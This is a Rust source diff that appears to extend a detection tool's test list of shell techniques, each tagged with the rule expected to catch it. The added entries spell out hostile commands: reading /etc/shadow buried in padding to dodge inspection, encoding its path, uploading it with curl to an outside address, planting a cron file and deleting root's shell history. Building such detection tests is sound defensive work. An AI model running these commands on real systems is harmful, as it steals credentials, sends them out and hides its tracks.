@@ -1,10 +1,10 @@
 //! Where programs lie, what they are called, and how they come to run.
 
 use super::Way::Exec;
-use super::rules::{ARGUMENTS, FOREIGN, HIDDEN, LOADER, REVERSE, SECRET, TUNNEL};
+use super::rules::{ARGUMENTS, FOREIGN, HIDDEN, HISTORY, LOADER, PLANTED, REVERSE, SECRET, SENT, TUNNEL};
 use super::{Technique, missed, told};
 
-pub(super) const TECHNIQUES: [Technique; 30] = [
+pub(super) const TECHNIQUES: [Technique; 36] = [
     told(
         "a-new-file",
         Exec,
@@ -134,8 +134,45 @@ pub(super) const TECHNIQUES: [Technique; 30] = [
     told(
         "a-secret-amid-padding",
         Exec,
-        "p=$(printf '%040000d' 0); cat $p /etc/shadow $p",
-        &[SECRET, ARGUMENTS],
+        "p=$(printf '%0100000d' 0); p=\"$p $p $p $p $p $p $p $p $p $p\"; cat $p /etc/shadow $p",
+        &[SECRET],
+    ),
+    told(
+        "a-secret-amid-more-padding-than-is-looked-at",
+        Exec,
+        "ulimit -s unlimited; p=$(printf '%0100000d' 0); p=\"$p $p $p $p $p $p $p $p $p $p\"; \
+            cat $p $p /etc/shadow $p $p",
+        &[ARGUMENTS],
+    ),
+    told(
+        "a-secret-packed-from-its-folder",
+        Exec,
+        "tar -cf /tmp/x -C /etc shadow",
+        &[SECRET],
+    ),
+    told(
+        "a-secret-as-a-url",
+        Exec,
+        "curl file://localhost/etc/sh%61dow",
+        &[SECRET],
+    ),
+    told(
+        "a-secret-in-an-option",
+        Exec,
+        "cd /tmp; curl -T../etc/./shadow http://198.51.100.7/",
+        &[SENT],
+    ),
+    told(
+        "a-way-back-from-its-folder",
+        Exec,
+        "mkdir -p /etc/cron.d; cd /etc/cron.d; cp /proc/self/comm job",
+        &[PLANTED],
+    ),
+    told(
+        "a-history-by-a-detour",
+        Exec,
+        "cd /tmp; rm -f ../root/.bash_history",
+        &[HISTORY],
     ),
     told(
         "a-shell-of-a-hidden-root",
